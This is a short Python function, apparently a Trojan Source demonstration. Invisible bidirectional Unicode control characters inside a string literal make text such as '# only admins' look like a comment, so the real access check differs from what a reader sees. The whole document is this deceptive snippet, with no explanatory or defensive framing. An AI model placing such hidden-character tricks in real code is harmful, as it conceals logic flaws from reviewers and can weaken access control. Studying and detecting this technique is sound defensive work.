def check(user: str) -> bool:
    access = "user‮ ⁦# only admins⁩ ⁦"
    return access != user
